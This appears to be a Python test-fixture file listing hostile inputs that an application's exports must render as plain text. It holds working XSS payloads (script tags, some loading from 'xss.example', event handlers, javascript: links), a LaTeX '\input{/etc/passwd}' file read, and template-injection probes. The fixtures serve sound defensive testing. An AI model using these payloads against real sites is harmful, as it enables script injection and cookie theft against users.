"""Hostile text a reader might type (or paste) into an answer: every export must show it as text."""

from __future__ import annotations

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</textarea><script>alert(document.cookie)</script>",
    "</style><script>alert(1)</script>",
    "<script type=module>import('//xss.example')</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a onclick=alert(1) href=#>x</a>",
]
LINKS = [
    "<a href=\"javascript:alert(1)\">click</a>",
    "[click me](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
]
MARKDOWN_AND_LATEX = [
    "# Heading injected",
    "**bold** _italic_ `code`",
    "![image](x.png)",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "```\nfenced code\n```",
    "$\\frac{1}{2}$ and $$\\int_0^1 x\\,dx$$",
    "\\input{/etc/passwd}",
    "\\documentclass{article}\\begin{document}x\\end{document}",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "<!-- comment --> <![CDATA[ x ]]>",
    "&lt;already escaped&gt; &amp; &#x3C;",
    "<style>body{display:none}</style>",
]
LONG_AND_SCRIPTS_OF_THE_WORLD = [
    "x" * 5000,
    "word " * 400,
    "مرحبا، هذا نص من اليمين إلى اليسار",
    "שלום, זה טקסט מימין לשמאל",
    "\u202egnirts desrever\u202c then normal",
    "Emoji 😀🙂🧡 and flags 🇬🇧🇺🇦 and joiners 👩‍👩‍👧",
    "Zero\u200bwidth\u200bspaces and a tab\tand\nnew lines\n\n\nkept",
    "Ünïcödé Ελληνικά Кириллица 中文 日本語 한국어",
]
PAYLOADS = SCRIPTS + HANDLERS + LINKS + MARKDOWN_AND_LATEX + LONG_AND_SCRIPTS_OF_THE_WORLD
